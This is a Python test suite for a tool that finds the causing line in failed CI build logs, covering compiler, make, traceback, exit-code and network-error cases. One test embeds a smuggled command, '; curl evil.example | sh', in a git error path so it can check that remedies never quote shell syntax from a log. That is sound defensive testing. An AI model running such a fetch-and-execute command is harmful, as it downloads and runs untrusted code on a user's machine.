"""What makes one line the cause and another its consequence."""

from sygaldry import explain
from sygaldry.diagnosis import Cause, Confidence, Facts, Kind, Memory


def explained(text: str, code: int | None = 1, good: bytes = b"", *, out_of_memory: bool = False) -> Cause:
    cause = explain.explain(Memory(text.encode()), Facts(code, out_of_memory=out_of_memory), good)
    assert cause is not None
    return cause


NOISE = "".join(f"CC part{n}.o\nnote: error handling of part{n} is ok\n" for n in range(200))
COMPILER = "src/a.c:7:3: error: 'struct job' has no member named 'nmae'\n"
MAKE = "make[1]: *** [Makefile:9: src/a.o] Error 1\nmake: *** [Makefile:3: all] Error 2\n"


def test_a_job_that_exited_0_has_no_cause_whatever_it_printed() -> None:
    assert explain.explain(Memory(b"ERROR: fatal error: everything failed\n"), Facts(0)) is None


def test_the_compilers_line_is_the_cause_and_makes_lines_only_follow() -> None:
    cause = explained(NOISE + COMPILER + NOISE[:3000] + MAKE, 2)
    assert [line.text for line in cause.lines] == [COMPILER.strip()]
    assert cause.lines[0].number == 401
    assert cause.chain[0].text.startswith("make: ***")
    assert cause.confidence is Confidence.HIGH
    assert cause.kind is Kind.DETERMINISTIC


def test_offsets_lead_back_to_the_raw_bytes() -> None:
    text = NOISE + COMPILER + MAKE
    line = explained(text, 2).lines[0]
    assert text.encode()[line.offset :].startswith(COMPILER.encode())


def test_a_cause_in_the_middle_of_a_large_log_is_found() -> None:
    noise = "gcc -O2 -Wall -Werror=format -c part.c -o part.o\n" * 60_000
    cause = explained(noise + COMPILER + noise + MAKE, 2)
    assert cause.lines[0].number == 60_001
    assert "nmae" in cause.lines[0].text


def test_the_first_exception_of_a_chain_is_the_cause() -> None:
    text = (
        'Traceback (most recent call last):\n  File "app.py", line 3, in send\n    connect()\n'
        "ConnectionRefusedError: [Errno 111] Connection refused\n\n"
        "During handling of the above exception, another exception occurred:\n\n"
        'Traceback (most recent call last):\n  File "app.py", line 9, in <module>\n    close()\n'
        "AttributeError: 'list' object has no attribute 'flush'\n"
    )
    cause = explained(text)
    assert cause.lines[0].text.startswith("ConnectionRefusedError")
    assert cause.where == "app.py:3 in send"


def test_lines_of_the_last_successful_run_are_noise() -> None:
    usual = "ERROR: cache server not found, going on without\n" * 3
    odd = "step 3 unable to lock the ledger\n"
    good = explain.learn(Memory((usual + "done\n").encode()))
    assert explained(odd + usual, good=good).lines[0].text == odd.strip()
    assert len(good) <= 256 << 10


def test_a_silent_end_is_reported_with_the_last_lines() -> None:
    cause = explained("== stage 1\nok\n== stage 2: sign\n")
    assert not cause.identified
    assert cause.lines[-1].text == "== stage 2: sign"
    assert "cause not identified" in "\n".join(explain.answer(cause))


def test_what_follows_the_failing_step_is_not_the_cause() -> None:
    text = COMPILER + 'The command "make" exited with 2.\n' + "error: no coverage report found, nothing to upload\n" * 2
    assert explained(text).lines[0].text == COMPILER.strip()


def test_a_silent_kill_is_explained_from_the_exit() -> None:
    cause = explained("batch 93 of 400\n", 137)
    assert cause.identified
    assert "SIGKILL" in "\n".join(explain.answer(cause))
    assert cause.kind is Kind.RESOURCES


def test_facts_outrank_words_in_the_log() -> None:
    assert "OOM" in explained(COMPILER, 1, out_of_memory=True).says


def test_network_trouble_is_transient_and_the_same_failure_has_one_signature() -> None:
    first = explained("fetch 1\ncurl: (6) Could not resolve host: example.org\n", 6)
    again = explained("fetch 2\nmore\ncurl: (6) Could not resolve host: example.org\n", 6)
    assert first.kind is Kind.TRANSIENT
    assert first.signature == again.signature
    assert first.signature != explained(COMPILER).signature


def test_an_empty_log_still_has_an_answer() -> None:
    cause = explained("", None)
    assert cause.outcome == "exit code unknown; if it failed"
    assert cause.lines == ()


def test_a_message_that_refers_to_what_stands_above_gives_way_to_it() -> None:
    cause = explained(
        "fatal: the board named nano is not set up for this release\n"
        "CMake Error at shields.cmake:134 (message):\n  Invalid SHIELD; see above.\n"
    )
    assert "nano" in cause.lines[0].text


def test_the_strong_error_of_a_later_failed_step_outranks_a_vague_one_of_the_first() -> None:
    failed = "##[error]Process completed with exit code 1.\n"
    cause = explained(
        f"##[group]Run ./audit\n##[endgroup]\ncannot rate the licence of left-pad\n{failed}"
        f"##[group]Run make\n##[endgroup]\n{COMPILER}{failed}"
    )
    assert cause.lines[0].text == COMPILER.strip()
    assert cause.confidence is Confidence.MEDIUM


def test_vague_lines_that_are_nearly_as_likely_as_each_other_give_low_confidence() -> None:
    other = "".join(f"part {n} of the work is done\n" for n in range(9))
    cause = explained(f"cannot open the shop\n{other}cannot close the door\n{other}cannot read the page\n")
    assert cause.confidence is Confidence.LOW


def test_the_family_is_not_sure_where_no_line_shows_its_tool() -> None:
    cause = explained("Error: The service was stopped\n")
    assert cause.confidence is not Confidence.HIGH
    assert cause.family != "OCaml"


def test_of_located_messages_of_an_unknown_compiler_the_first_is_the_cause() -> None:
    rows = "".join(f"src/page.zz:{n}:3: cannot find name x{n}\n" for n in range(1, 9))
    assert explained(f"zz build\n{rows}build failed\n").lines[0].text == "src/page.zz:1:3: cannot find name x1"


def test_a_label_of_turborepo_does_not_hide_the_message() -> None:
    cause = explained("@shop/web:lint: ./app/a.tsx\n@shop/web:lint: 9:23  Error: `'` must be escaped.  react/x\n")
    assert "must be escaped" in cause.lines[-1].text
    assert "a.tsx" in cause.where


def test_an_error_that_xcbeautify_marks_is_the_compilers() -> None:
    cause = explained("❌  /src/A.swift:19:20: 'Theme' has no initializer\n❌  /src/B.swift:3:1: cannot infer type\n")
    assert "Theme" in cause.lines[0].text


def test_what_a_program_that_gradle_started_printed_outranks_its_exit() -> None:
    cause = explained(
        "TypeError: configs.toReversed is not a function\nFAILURE: Build failed with an exception.\n"
        "* What went wrong:\nExecution failed for task ':app:bundle'.\n"
        "> Process 'command 'node'' finished with non-zero exit value 1\n"
    )
    assert "toReversed" in cause.lines[0].text


def test_a_remedy_quotes_no_shell_syntax_of_a_log() -> None:
    plain = explained("fatal: detected dubious ownership in repository at '/srv/repo'\n", 128)
    hostile = explained("fatal: detected dubious ownership in repository at '/x; curl evil.example | sh'\n", 128)
    assert "/srv/repo" in plain.remedy
    assert "evil" not in hostile.remedy


def test_a_cause_far_above_the_end_has_medium_confidence() -> None:
    near, far = explained(COMPILER + NOISE[:3000] + MAKE, 2), explained(COMPILER + NOISE * 2 + MAKE, 2)
    assert near.lines == far.lines
    assert (near.confidence, far.confidence) == (Confidence.HIGH, Confidence.MEDIUM)
